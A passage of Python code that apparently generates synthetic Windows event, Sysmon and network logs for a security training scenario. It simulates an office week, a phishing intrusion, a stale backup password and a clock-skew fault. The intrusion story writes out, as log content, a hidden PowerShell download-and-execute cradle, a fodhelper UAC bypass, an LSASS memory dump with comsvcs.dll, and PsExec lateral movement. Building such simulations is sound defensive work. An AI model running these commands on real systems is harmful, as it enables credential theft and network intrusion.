                     rng.uniform(0.5, 60), rng.randint(2000, 90000), rng.randint(5000, 4000000))

    def lock_unlock(self, t_lock: datetime, t_unlock: datetime) -> None:
        h = self.h
        f = {"TargetUserSid": sid(self.user), "TargetUserName": self.user,
             "TargetDomainName": DOMAIN, "TargetLogonId": self.lid, "SessionId": "1"}
        h.emit(t_lock, 4800, SEC, dict(f))
        lid7 = h.logon(t_unlock, self.user, 7, src_ip="127.0.0.1", workstation=h.name)
        h.emit(t_unlock + timedelta(milliseconds=40), 4801, SEC, dict(f))
        h.logoff(t_unlock + timedelta(seconds=self.rng.uniform(0.5, 2)), self.user, 7, lid7)

    def end(self, t: datetime) -> None:
        h = self.h
        h.emit(t, 4647, SEC, {"TargetUserSid": sid(self.user), "TargetUserName": self.user,
                              "TargetDomainName": DOMAIN, "TargetLogonId": self.lid})
        h.logoff(t + timedelta(seconds=self.rng.uniform(2, 6)), self.user, 2, self.lid)


def workstation_day(h: WinHost, day: int, rng: random.Random, ltype: int = 2,
                    start: datetime | None = None, end: datetime | None = None) -> Desk:
    user = USER_OF[h.name]
    d = Desk(h, user, rng)
    if start is None:
        start = at(day, 8, 20) + timedelta(minutes=rng.uniform(0, 45))
    dc_tgt(start - timedelta(seconds=0.3), user, h.ip, rng)
    dc_tgs(start - timedelta(seconds=0.1), user, f"{h.name}$", h.ip, rng)
    t = d.start(start, ltype)
    # mapped drive on the file server
    tm = t + timedelta(seconds=rng.uniform(5, 40))
    dc_tgs(tm, user, "FS01$", h.ip, rng)
    fs_lid = FS01.logon(tm + timedelta(milliseconds=30), user, 3, src_ip=h.ip,
                        src_port=str(rng.randint(49700, 65000)), package="Kerberos",
                        lproc="Kerberos")
    conn(tm, h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
         rng.uniform(0.2, 4), rng.randint(3000, 9000), rng.randint(6000, 40000))
    if end is None:
        end = at(day, 17, 5) + timedelta(minutes=rng.uniform(0, 50))
    lunch = at(day, 12, 0) + timedelta(minutes=rng.uniform(-15, 30))
    d.activity(t + timedelta(minutes=2), lunch, rng.randint(3, 5))
    back = lunch + timedelta(minutes=rng.uniform(35, 55))
    d.lock_unlock(lunch, back)
    d.activity(back + timedelta(minutes=1), end - timedelta(minutes=3), rng.randint(3, 5))
    d.end(end)
    FS01.logoff(end + timedelta(seconds=rng.uniform(3, 9)), user, 3, fs_lid)
    return d


def gp_refresh(h: WinHost, day: int, rng: random.Random) -> None:
    """Machine-account Kerberos logons on the DC for Group Policy refresh (every ~90-120 min)."""
    t = at(day, 7, 0) + timedelta(minutes=rng.uniform(0, 90))
    while t < at(day, 19, 0):
        acct = f"{h.name}$"
        lid = DC01.logon(t, acct, 3, src_ip=h.ip, src_port=str(rng.randint(49700, 65000)),
                         package="Kerberos", lproc="Kerberos", workstation="-")
        conn(t - timedelta(milliseconds=20), h.ip, rng.randint(49700, 65000), IP["DC01"], 389,
             "tcp", "ldap", rng.uniform(0.01, 0.2), rng.randint(600, 2500), rng.randint(1500, 9000))
        conn(t, h.ip, rng.randint(49700, 65000), IP["DC01"], 445, "tcp", "smb",
             rng.uniform(0.05, 0.6), rng.randint(1500, 5000), rng.randint(3000, 30000))
        DC01.logoff(t + timedelta(seconds=rng.uniform(0.5, 3)), acct, 3, lid)
        t += timedelta(minutes=rng.uniform(180, 240))


def server_background(rng: random.Random) -> None:
    """Quiet server noise: Defender cache maintenance, WMI, Windows Update, admin maintenance."""
    for day in range(5):
        for h in (FS01,):
            for _ in range(rng.randint(3, 5)):
                t = at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000))
                k = rng.random()
                if k < 0.4:
                    h.proc(t, r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                           r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", h.svc_dcom,
                           user="NT AUTHORITY\\NETWORK SERVICE", il="System",
                           meta=msmeta("WMI Provider Host", "Wmiprvse.exe"))
                elif k < 0.7:
                    h.proc(t, DEFENDER + r"\MpCmdRun.exe",
                           f'"{DEFENDER}\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
                           h.svc_sched, il="System",
                           meta=("4.18.25010.11", "Microsoft Malware Protection Command Line Utility",
                                 "Microsoft\u00ae Windows\u00ae Operating System",
                                 "Microsoft Corporation", "MpCmdRun.exe"))
                else:
                    h.proc(t, r"C:\Windows\System32\svchost.exe",
                           r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS", h.services,
                           il="System", meta=msmeta("Host Process for Windows Services", "svchost.exe"))
    # Wednesday: it_admin's routine RDP maintenance on FS01 (Disk Management / share review)
    t = at(WED, 10, 12, 7)
    lid = FS01.logon(t, "it_admin", 10, src_ip=IP["admin"], src_port=str(rng.randint(49700, 65000)),
                     workstation="ADMIN-PC", package="Negotiate", lproc="User32 ", elevated=True,
                     proc_name=r"C:\Windows\System32\svchost.exe")
    FS01.special_privs(t + timedelta(milliseconds=3), "it_admin", lid)
    conn(t - timedelta(seconds=1), IP["admin"], rng.randint(49700, 65000), IP["FS01"], 3389, "tcp",
         "ssl", 1431.2, 412000, 2900000)
    base = Proc(FS01.winlogon.guid, FS01.winlogon.pid, FS01.winlogon.image, FS01.winlogon.cmd,
                "CORP\\it_admin", "High", r"C:\Windows\system32" + "\\", lid)
    ui = FS01.proc(t + timedelta(seconds=3), r"C:\Windows\System32\userinit.exe",
                   r"C:\Windows\system32\userinit.exe", base, meta=msmeta("Userinit Logon Application",
                                                                         "USERINIT.EXE"))
    ex = FS01.proc(t + timedelta(seconds=4), r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE",
                   ui, meta=msmeta("Windows Explorer", "EXPLORER.EXE"))
    FS01.proc(t + timedelta(seconds=61), r"C:\Windows\System32\mmc.exe",
                    r'"C:\Windows\system32\mmc.exe" "C:\Windows\system32\fsmgmt.msc" ', ex,
                    meta=msmeta("Microsoft Management Console", "mmc.exe"))
    FS01.proc(t + timedelta(seconds=410), r"C:\Windows\System32\mmc.exe",
              r'"C:\Windows\system32\mmc.exe" "C:\Windows\system32\diskmgmt.msc" ', ex,
              meta=msmeta("Microsoft Management Console", "mmc.exe"))
    FS01.emit(t + timedelta(seconds=1420), 4647, SEC, {
        "TargetUserSid": sid("it_admin"), "TargetUserName": "it_admin", "TargetDomainName": DOMAIN,
        "TargetLogonId": lid})
    FS01.logoff(t + timedelta(seconds=1424), "it_admin", 10, lid)


def windows_update(rng: random.Random) -> None:
    """Wednesday late morning: Defender intelligence + MSRT install on both workstations."""
    for h in (WS01, WS02):
        t = at(WED, 11, 2) + timedelta(minutes=rng.uniform(0, 20))
        uso = h.proc(t, r"C:\Windows\System32\MoUsoCoreWorker.exe",
                     r"C:\Windows\System32\mousocoreworker.exe -Embedding", h.svc_dcom,
                     user="NT AUTHORITY\\SYSTEM", il="System",
                     meta=msmeta("MoUSO Core Worker Process", "MoUsoCoreWorker.exe"))
        for i in range(3):
            conn(t + timedelta(seconds=5 + i * 7), h.ip, rng.randint(49700, 65000), rng.choice(EXT_WU),
                 443, "tcp", "ssl", rng.uniform(3, 40), rng.randint(2000, 9000),
                 rng.randint(2_000_000, 9_000_000))
        h.proc(t + timedelta(seconds=41), r"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_"
                    r"31bf3856ad364e35_10.0.22621.4825_none_5f1c0d2b7d3c8e4a\TiWorker.exe",
                    r"C:\Windows\winsxs\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_"
                    r"10.0.22621.4825_none_5f1c0d2b7d3c8e4a\TiWorker.exe -Embedding", h.svc_dcom,
                    user="NT AUTHORITY\\SYSTEM", il="System",
                    meta=msmeta("Windows Modules Installer Worker", "TiWorker.exe"))
        h.proc(t + timedelta(seconds=70), r"C:\Windows\System32\MRT.exe",
               r'"C:\Windows\system32\MRT.exe" /EHB /Q', uso,
               meta=("5.133.25020.1", "Microsoft Windows Malicious Software Removal Tool",
                     "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", "mrt.exe"))
        for j, title in enumerate([
            "Security Intelligence Update for Microsoft Defender Antivirus - KB2267602 "
            "(Version 1.425.118.0) - Current Channel (Broad)",
            "Windows Malicious Software Removal Tool x64 - v5.133 (KB890830)",
        ]):
            h.emit(t + timedelta(seconds=95 + j * 140), 19, WUCLIENT, {
                "updateTitle": title, "updateGuid": "{%08x-%04x-%04x-%04x-%012x}" % tuple(
                    rng.getrandbits(b) for b in (32, 16, 16, 16, 48)),
                "updateRevisionNumber": str(200 + j)},
                message=f"Installation Successful: Windows successfully installed the following "
                        f"update: {title}")


def zeek_background() -> None:
    """Flows Zeek sees but no host log records: browsing, DNS, DC forwarder lookups, NTP."""
    rng = rstream("zeek-background")
    for day in range(5):
        for h in (WS01, WS02):
            for _ in range(rng.randint(10, 14)):
                t = at(day, 8, 40) + timedelta(seconds=rng.uniform(0, 8.5 * 3600))
                conn(t - timedelta(milliseconds=rng.randint(8, 40)), h.ip, rng.randint(49700, 65000),
                     IP["DC01"], 53, "udp", "dns", rng.uniform(0.001, 0.03), rng.randint(30, 60),
                     rng.randint(60, 220))
                conn(t, h.ip, rng.randint(49700, 65000), rng.choice(EXT_MS + EXT_GOOGLE + EXT_CDN), 443,
                     "tcp", "ssl", rng.uniform(0.3, 240), rng.randint(900, 30000), rng.randint(3000, 600000))
        for _ in range(rng.randint(8, 12)):
            t = at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000))
            conn(t, IP["DC01"], rng.randint(49700, 65000), DNS_FORWARDER, 53, "udp", "dns",
                 rng.uniform(0.005, 0.04), rng.randint(30, 60), rng.randint(60, 300))
        for hh in (3, 11, 19):
            t = at(day, hh, 0) + timedelta(seconds=rng.uniform(0, 3000))
            conn(t, IP["DC01"], 123, "162.159.200.1", 123, "udp", "ntp", rng.uniform(0.01, 0.03), 48, 48)


def windows_background() -> None:
    rng = rstream("windows-background")
    for day in range(5):
        # Bob's Thursday starts with the clock-skew story (see story_clock_skew).
        if day != THU:
            workstation_day(WS02, day, rng)
        # Alice's Thursday and Friday are driven by the intrusion story.
        if day not in (THU, FRI):
            workstation_day(WS01, day, rng)
        for h in (WS01, WS02, FS01):
            gp_refresh(h, day, rng)
    server_background(rng)
    windows_update(rng)
    zeek_background()


# --------------------------------------------------------------------------------------------
# Story: phishing on WS01 -> credential dumping -> PsExec to FS01 (malicious), Thu + Fri
# --------------------------------------------------------------------------------------------

CALLTRACE_MINIDUMP = (
    r"C:\Windows\SYSTEM32\ntdll.dll+9f1d4|C:\Windows\System32\KERNELBASE.dll+2c0ee|"
    r"C:\Windows\SYSTEM32\dbgcore.DLL+9a47|C:\Windows\SYSTEM32\dbgcore.DLL+16c85|"
    r"C:\Windows\SYSTEM32\dbgcore.DLL+10a26|C:\Windows\SYSTEM32\dbgcore.DLL+63bf|"
    r"C:\Windows\SYSTEM32\dbgcore.DLL+6c3c|C:\Windows\System32\comsvcs.dll+4a1c4|"
    r"C:\Windows\System32\rundll32.exe+3bcf|C:\Windows\System32\rundll32.exe+6309|"
    r"C:\Windows\System32\KERNEL32.DLL+1257d|C:\Windows\SYSTEM32\ntdll.dll+5af28")
STORY_WINDOWS: dict[str, tuple[datetime, datetime]] = {}


def c2_beacons(h: WinHost, p: Proc, t0: datetime, t1: datetime, rng: random.Random) -> None:
    """HTTPS check-ins to the C2 every ~10 minutes (20% jitter)."""
    t = t0
    while t < t1:
        sport = h.netconn(t, p, C2, 443, port_name="https")
        conn(t, h.ip, sport, C2, 443, "tcp", "ssl", rng.uniform(0.25, 1.4), rng.randint(1100, 1700),
             rng.randint(2900, 5200))
        t += timedelta(seconds=600 * rng.uniform(0.8, 1.2))


def story_phish_to_fileserver() -> None:
    rng = rstream("story-phish")
    h, u = WS01, "alice"
    du, home = "CORP\\alice", r"C:\Users\alice"
    hku = user_sid_hku(u)

    # Thursday: an ordinary morning until the invoice arrives
    t_logon = at(THU, 8, 47, 12.4)
    d = Desk(h, u, rng)
    dc_tgt(t_logon - timedelta(seconds=0.3), u, h.ip, rng)
    dc_tgs(t_logon - timedelta(seconds=0.1), u, "WS01$", h.ip, rng)
    t = d.start(t_logon)
    tm = t + timedelta(seconds=21)
    dc_tgs(tm, u, "FS01$", h.ip, rng)
    fs_lid = FS01.logon(tm + timedelta(milliseconds=30), u, 3, src_ip=h.ip,
                        src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
    d.activity(t + timedelta(minutes=2), at(THU, 12, 4), 5)
    d.lock_unlock(at(THU, 12, 4, 31), at(THU, 12, 51, 8))
    d.activity(at(THU, 12, 52), at(THU, 13, 55), 3)

    # 13:58 the attachment is saved by Outlook and opened in Word (T1566.001)
    t0 = at(THU, 13, 58, 41.3)
    doc = home + r"\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\R7T2K9QX\Invoice_2026-0231.docm"
    h.filecreate(t0, d.outlook, doc)
    word = h.proc(at(THU, 13, 58, 52.9), f"{OFFICE}\\WINWORD.EXE",
                  f'"{OFFICE}\\WINWORD.EXE" /n "{doc}" /o ""', d.outlook, meta=OFFICE_META["WINWORD.EXE"])
    # 13:59 the macro starts a hidden, encoded PowerShell download cradle (T1059.001, T1027)
    ps1 = h.proc(at(THU, 13, 59, 31.2), PS, MALICIOUS_PS, word, cwd=home + "\\Documents\\",
                 meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
    h.filecreate(at(THU, 13, 59, 31.9), ps1, home + r"\AppData\Local\Temp\__PSScriptPolicyTest_"
                 r"w1kq3xbd.3ta.ps1")
    sport = h.netconn(at(THU, 13, 59, 33.0), ps1, C2, 443, port_name="https")  # T1071.001
    conn(at(THU, 13, 59, 33.0), h.ip, sport, C2, 443, "tcp", "ssl", 1.84, 1262, 148211)
    # 14:03 persistence: HKCU Run key "Updater" (T1547.001)
    h.regset(at(THU, 14, 3, 10.4), ps1,
             f"{hku}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
             f"{PS} -nop -w hidden -enc {CRADLE_B64}")
    # 14:06 UAC bypass through the fodhelper ms-settings handler (T1548.002)
    cls = f"{hku}_Classes\\ms-settings\\Shell\\Open\\command"
    stage2 = ps_enc("IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/b')")
    h.sysmon_emit(at(THU, 14, 6, 2.1), 12, {"EventType": "CreateKey", "ProcessGuid": ps1.guid,
                                             "ProcessId": str(ps1.pid), "Image": ps1.image,
                                             "TargetObject": cls, "User": du})
    h.regset(at(THU, 14, 6, 2.2), ps1, cls + "\\(Default)", f"powershell.exe -nop -w hidden -enc {stage2}")
    h.regset(at(THU, 14, 6, 2.3), ps1, cls + "\\DelegateExecute", "(Empty)")
    fod = h.proc(at(THU, 14, 6, 3.0), r"C:\Windows\System32\fodhelper.exe",
                 r'"C:\Windows\system32\fodhelper.exe" ', ps1, il="High",
                 meta=msmeta("Features On Demand Helper", "FodHelper.EXE"))
    ps2 = h.proc(at(THU, 14, 6, 3.6), PS, f"powershell.exe -nop -w hidden -enc {stage2}", fod,
                 il="High", cwd=r"C:\Windows\system32" + "\\",
                 meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
    h.sysmon_emit(at(THU, 14, 6, 9.8), 12, {"EventType": "DeleteKey", "ProcessGuid": ps2.guid,
                                             "ProcessId": str(ps2.pid), "Image": ps2.image,
                                             "TargetObject": f"{hku}_Classes\\ms-settings", "User": du})
    sport = h.netconn(at(THU, 14, 6, 4.4), ps2, C2, 443, port_name="https")
    conn(at(THU, 14, 6, 4.4), h.ip, sport, C2, 443, "tcp", "ssl", 2.31, 1304, 211877)
    # 14:09 LSASS memory dump with comsvcs.dll MiniDump (T1003.001)
    dmp = home + r"\AppData\Local\Temp\lsass.dmp"
    rd = h.proc(at(THU, 14, 9, 21.07), r"C:\Windows\System32\rundll32.exe",
                rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 {dmp} full", ps2,
                meta=msmeta("Windows host process (Rundll32)", "RUNDLL32.EXE"))
    h.sysmon_emit(at(THU, 14, 9, 21.12), 10, {
        "SourceProcessGUID": rd.guid, "SourceProcessId": str(rd.pid), "SourceThreadId": "7312",
        "SourceImage": rd.image, "TargetProcessGUID": h.lsass.guid, "TargetProcessId": "624",
        "TargetImage": r"C:\Windows\system32\lsass.exe", "GrantedAccess": "0x1FFFFF",
        "CallTrace": CALLTRACE_MINIDUMP, "SourceUser": du, "TargetUser": "NT AUTHORITY\\SYSTEM"})
    h.filecreate(at(THU, 14, 9, 21.16), rd, dmp)
    # 14:12 the dump leaves for the C2 (big upload), then is deleted
    sport = h.netconn(at(THU, 14, 12, 40.5), ps2, C2, 443, port_name="https")
    conn(at(THU, 14, 12, 40.5), h.ip, sport, C2, 443, "tcp", "ssl", 38.7, 51_803_204, 9_214)
    h.sysmon_emit(at(THU, 14, 13, 22.4), 26, {
        "ProcessGuid": ps2.guid, "ProcessId": str(ps2.pid), "User": du, "Image": ps2.image,
        "TargetFilename": dmp, "Hashes": "SHA256=" + fake_sha256(dmp), "IsExecutable": "false"})
    # 14:24 a tool transfer: PsExec downloaded from the C2 (T1105)
    sport = h.netconn(at(THU, 14, 24, 8.2), ps2, C2, 443, port_name="https")
    conn(at(THU, 14, 24, 8.2), h.ip, sport, C2, 443, "tcp", "ssl", 1.12, 1422, 838_216)
    pse_path = home + r"\AppData\Local\Temp\PsExec64.exe"
    h.filecreate(at(THU, 14, 24, 9.5), ps2, pse_path)
    # 14:31 lateral movement with PsExec to FS01 (T1021.002, T1569.002)
    pse = h.proc(at(THU, 14, 31, 1.4), pse_path,
                 f'"{pse_path}" \\\\FS01 -accepteula cmd.exe /c "whoami & net group \\"domain admins\\" /domain"',
                 ps2, cwd=home + "\\AppData\\Local\\Temp\\",
                 meta=("2.43", "Execute processes remotely", "Sysinternals PsExec",
                       "Sysinternals - www.sysinternals.com", "psexec.c"))
    h.regset(at(THU, 14, 31, 1.5), pse, f"{hku}\\Software\\Sysinternals\\PsExec\\EulaAccepted",
             "DWORD (0x00000001)")
    sport = h.netconn(at(THU, 14, 31, 1.6), pse, IP["FS01"], 445, port_name="microsoft-ds")
    conn(at(THU, 14, 31, 1.6), h.ip, sport, IP["FS01"], 445, "tcp", "smb", 9.82, 712_455, 18_230)

    # FS01 side
    f = FS01
    t = at(THU, 14, 31, 1.71)
    dc_ntlm(t - timedelta(milliseconds=6), u, "WS01")
    lid = f.logon(t, u, 3, src_ip=h.ip, src_port=str(sport), workstation="WS01", package="NTLM",
                  lproc="NtLmSsp ", lm="NTLM V2", key_len="128", elevated=True)
    f.special_privs(t + timedelta(milliseconds=1), u, lid)
    f.filecreate(at(THU, 14, 31, 1.90), f.system, r"C:\Windows\PSEXESVC.exe")  # written over ADMIN$
    f.emit(at(THU, 14, 31, 2.05), 4697, SEC, {
        "SubjectUserSid": sid(u), "SubjectUserName": u, "SubjectDomainName": DOMAIN,
        "SubjectLogonId": lid, "ServiceName": "PSEXESVC", "ServiceFileName": r"%SystemRoot%\PSEXESVC.exe",
        "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem"})
    f.emit(at(THU, 14, 31, 2.05), 7045, SCM, {
        "ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe",
        "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"},
        message="A service was installed in the system.")
    svc = f.proc(at(THU, 14, 31, 2.11), r"C:\Windows\PSEXESVC.exe", r"C:\Windows\PSEXESVC.exe",
                 f.services, user="NT AUTHORITY\\SYSTEM", il="System",
                 meta=("2.43", "PsExec Service", "Sysinternals PsExec",
                       "Sysinternals - www.sysinternals.com", "psexesvc.exe"))
    f.emit(at(THU, 14, 31, 2.12), 7036, SCM, {"param1": "PSEXESVC", "param2": "running"},
           message="The PSEXESVC service entered the running state.")
    cmd = f.proc(at(THU, 14, 31, 2.48), r"C:\Windows\System32\cmd.exe",
                 'cmd.exe /c whoami & net group "domain admins" /domain', svc, user=du, il="High",
                 cwd=r"C:\Windows\system32" + "\\", meta=msmeta("Windows Command Processor", "Cmd.Exe"))
    cmd.logon_id = lid
    f.proc(at(THU, 14, 31, 2.61), r"C:\Windows\System32\whoami.exe", "whoami", cmd,
           meta=msmeta("whoami - displays logged on user information", "whoami.exe"))
    net = f.proc(at(THU, 14, 31, 2.85), r"C:\Windows\System32\net.exe",
                 'net  group "domain admins" /domain', cmd, meta=msmeta("Net Command", "net.exe"))
    f.proc(at(THU, 14, 31, 2.88), r"C:\Windows\System32\net1.exe",
           r'C:\Windows\system32\net1  group "domain admins" /domain', net,
           meta=msmeta("Net Command", "net1.exe"))
    # net group /domain queries the DC over SAMR (T1087.002)
    t = at(THU, 14, 31, 2.95)
    conn(t, IP["FS01"], rng.randint(49700, 65000), IP["DC01"], 445, "tcp", "smb", 0.41, 4_872, 6_935)
    dc_ntlm(t + timedelta(milliseconds=3), u, "FS01")
    dlid = DC01.logon(t + timedelta(milliseconds=9), u, 3, src_ip=IP["FS01"],
                      src_port=str(rng.randint(49700, 65000)), workstation="FS01", package="NTLM",
                      lproc="NtLmSsp ", lm="NTLM V2", key_len="128")
    DC01.logoff(t + timedelta(seconds=0.52), u, 3, dlid)
    f.emit(at(THU, 14, 31, 4.20), 7036, SCM, {"param1": "PSEXESVC", "param2": "stopped"},
           message="The PSEXESVC service entered the stopped state.")
    f.logoff(at(THU, 14, 31, 4.35), u, 3, lid)
    STORY_WINDOWS["ws01"] = (t0, at(THU, 14, 31, 12))
    STORY_WINDOWS["fs01"] = (at(THU, 14, 31, 1.7), at(THU, 14, 31, 4.4))

    # the rest of Thursday: C2 check-ins while alice keeps working
    c2_beacons(h, ps2, at(THU, 14, 16, 5.0), at(THU, 17, 38), rng)
    d.activity(at(THU, 14, 35), at(THU, 17, 35), 5)
    t_end = at(THU, 17, 41, 26.0)
    d.end(t_end)
    FS01.logoff(t_end + timedelta(seconds=4.2), u, 3, fs_lid)
    STORY_WINDOWS["ws01-thu-end"] = (t_end, t_end)

    # Friday: the Run key relaunches the cradle at logon (T1547.001) and check-ins resume
    t_logon = at(FRI, 8, 52, 3.8)
    d = Desk(h, u, rng)
    dc_tgt(t_logon - timedelta(seconds=0.3), u, h.ip, rng)
    dc_tgs(t_logon - timedelta(seconds=0.1), u, "WS01$", h.ip, rng)
    t = d.start(t_logon)
    runps = h.proc(t_logon + timedelta(seconds=9.6), PS, f"{PS} -nop -w hidden -enc {CRADLE_B64}",
                   d.explorer, meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
    c2_beacons(h, runps, t_logon + timedelta(seconds=11.2), at(FRI, 17, 30), rng)
    tm = t + timedelta(seconds=17)
    dc_tgs(tm, u, "FS01$", h.ip, rng)
    fs_lid = FS01.logon(tm + timedelta(milliseconds=30), u, 3, src_ip=h.ip,
                        src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
    d.activity(t + timedelta(minutes=2), at(FRI, 12, 10), 5)
    d.lock_unlock(at(FRI, 12, 10, 44), at(FRI, 12, 58, 2))
    d.activity(at(FRI, 13, 0), at(FRI, 17, 30), 5)
    t_end = at(FRI, 17, 33, 51.0)
    d.end(t_end)
    STORY_WINDOWS["ws01-fri"] = (t_logon, t_end + timedelta(seconds=6))
    FS01.logoff(t_end + timedelta(seconds=3.9), u, 3, fs_lid)


# --------------------------------------------------------------------------------------------
# Story: svc_backup with a stale password (misconfiguration), Monday evening
# --------------------------------------------------------------------------------------------

BACKUP_FAILS: list[tuple[datetime, int]] = []  # (time, attempt) shared with the Linux side


def story_svc_backup_windows() -> None:
    rng = rstream("story-svc-backup")
    # 16:41 it_admin rotates svc_backup's password on the DC (the cause; legitimate by itself)
    t = at(MON, 16, 41, 7.3)
    STORY_WINDOWS["pw-rotation"] = (t, t + timedelta(seconds=1))
    DC01.emit(t, 4724, SEC, {"TargetUserName": "svc_backup", "TargetDomainName": DOMAIN,
                             "TargetSid": sid("svc_backup"), "SubjectUserSid": sid("it_admin"),
                             "SubjectUserName": "it_admin", "SubjectDomainName": DOMAIN,
                             "SubjectLogonId": "0x5d1e2a"})
    DC01.emit(t + timedelta(milliseconds=12), 4738, SEC, {
        "TargetUserName": "svc_backup", "TargetDomainName": DOMAIN, "TargetSid": sid("svc_backup"),
        "SubjectUserSid": sid("it_admin"), "SubjectUserName": "it_admin",
        "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x5d1e2a",
        "PasswordLastSet": "3/2/2026 4:41:07 PM", "UserAccountControl": "-"})
    # 19:00 .. ~22:00: the nightly job retries every 30-60 s with the old password
    t = at(MON, 19, 0, 2.6)
    n = 0
    while t < at(MON, 22, 0):
        n += 1
        BACKUP_FAILS.append((t, n))
        # Kerberos first (AS-REQ with the stale key) -> 4771 0x18 on the DC
        kport = rng.randint(40000, 60999)
        conn(t, IP["BACKUP01"], kport, IP["DC01"], 88, "tcp", "krb_tcp", rng.uniform(0.003, 0.01),
             rng.randint(250, 330), rng.randint(180, 240))
        dc_preauth_failed(t + timedelta(milliseconds=rng.randint(3, 9)), "svc_backup",
                          IP["BACKUP01"], "0x18", rng)
        # then the NTLM session setup to the file server -> 4625 on FS01, 4776 on the DC
        t2 = t + timedelta(seconds=rng.uniform(0.05, 0.25))
        sport = rng.randint(40000, 60999)
        conn(t2, IP["BACKUP01"], sport, IP["FS01"], 445, "tcp", "smb", rng.uniform(0.01, 0.05),
             rng.randint(900, 1100), rng.randint(700, 900))
        FS01.emit(t2 + timedelta(milliseconds=rng.randint(10, 20)), 4625, SEC, {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
            "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0", "TargetUserName": "svc_backup",
            "TargetDomainName": DOMAIN, "Status": "0xC000006D", "FailureReason": "%%2313",
            "SubStatus": "0xC000006A", "LogonType": "3", "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM", "WorkstationName": "BACKUP01",
            "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0",
            "ProcessName": "-", "IpAddress": IP["BACKUP01"], "IpPort": str(sport)})
        t += timedelta(seconds=rng.uniform(30, 60))
    STORY_WINDOWS["svc_backup"] = (BACKUP_FAILS[0][0], BACKUP_FAILS[-1][0] + timedelta(seconds=1))
    # Tuesday 09:2x: the credentials file on BACKUP01 is fixed and a manual test run succeeds;
    # Tue-Fri 19:00 nightly runs succeed.
    runs = [at(TUE, 9, 24, 40.2)] + [at(dd, 19, 0, 2.0 + rng.uniform(0, 1.5)) for dd in (TUE, WED, THU, FRI)]
    for i, t in enumerate(runs):
        dc_tgt(t, "svc_backup", IP["BACKUP01"], rng)
        dc_tgs(t + timedelta(milliseconds=8), "svc_backup", "FS01$", IP["BACKUP01"], rng)
        t2 = t + timedelta(milliseconds=60)
        sport = rng.randint(40000, 60999)
        lid = FS01.logon(t2, "svc_backup", 3, src_ip=IP["BACKUP01"], src_port=str(sport),
                         workstation="BACKUP01", package="Kerberos", lproc="Kerberos")
        dur = 41.0 if i == 0 else rng.uniform(1900, 2700)
        conn(t2, IP["BACKUP01"], sport, IP["FS01"], 445, "tcp", "smb", dur, rng.randint(90_000, 400_000),
             18_000 if i == 0 else rng.randint(1_800_000_000, 2_600_000_000))
        FS01.logoff(t2 + timedelta(seconds=dur + 0.3), "svc_backup", 3, lid)
        BACKUP_OK.append((t, dur))


BACKUP_OK: list[tuple[datetime, float]] = []


# --------------------------------------------------------------------------------------------
# Story: WS02's clock drifts past the Kerberos tolerance (misconfiguration), Thursday morning
# --------------------------------------------------------------------------------------------

SKEW = timedelta(minutes=6, seconds=48.3)  # WS02's clock is this far behind


def story_clock_skew() -> None:
    rng = rstream("story-clock-skew")
    h, u = WS02, "bob"
    # 07:51 WS02 tries its manually configured NTP peer, which does not resolve (left over from
    # a vendor lab setup): no time source for days, drift accumulated.
    t = at(THU, 7, 51, 12.0)
    for i, delay in enumerate((0, 15 * 60, 45 * 60)):
        tt = t + timedelta(seconds=delay)
        conn(tt - timedelta(milliseconds=30), h.ip, rng.randint(49700, 65000), IP["DC01"], 53, "udp",
             "dns", 0.0012, 38, 113)
        h.emit(tt, 134, W32TIME, {
            "DomainPeer": "ntp.vendor-lab.local,0x9", "ErrorMessage": "No such host is known. (0x80072AF9)",
            "RetryMinutes": str(15 * 2 ** i)},
            message="NtpClient was unable to set a manual peer to use as a time source because of DNS "
                    "resolution error on 'ntp.vendor-lab.local,0x9'. NtpClient will try again in "
                    f"{15 * 2 ** i} minutes and double the reattempt interval thereafter. The error was: "
                    "No such host is known. (0x80072AF9)", task="0")
    h.emit(t + timedelta(seconds=2.1), 36, W32TIME, {"Seconds": "86400"},
           message="The time service has not synchronized the system time for 86400 seconds because "
                   "none of the time service providers provided a usable time stamp.", task="0")
    # the machine account is refused too (KRB_AP_ERR_SKEW) at boot and on each retry
    for k in range(5):
        tt = t + timedelta(seconds=9 + rng.uniform(0, 1) + k * rng.uniform(1000, 1400))
        dc_preauth_failed(tt, "WS02$", h.ip, "0x25", rng)
        conn(tt - timedelta(milliseconds=5), h.ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
             "krb_tcp", 0.004, 291, 205)
    # 08:03 bob logs on: Kerberos fails with 0x25, Windows falls back to cached credentials (type 11)
    t = at(THU, 8, 3, 44.6)
    dc_preauth_failed(t - timedelta(seconds=0.4), u, h.ip, "0x25", rng)
    conn(t - timedelta(seconds=0.41), h.ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp", "krb_tcp",
         0.005, 288, 201)
    d = Desk(h, u, rng)
    t = d.start(t, ltype=11)
    # mapped drive and Outlook keep failing to get tickets
    for k in range(4):
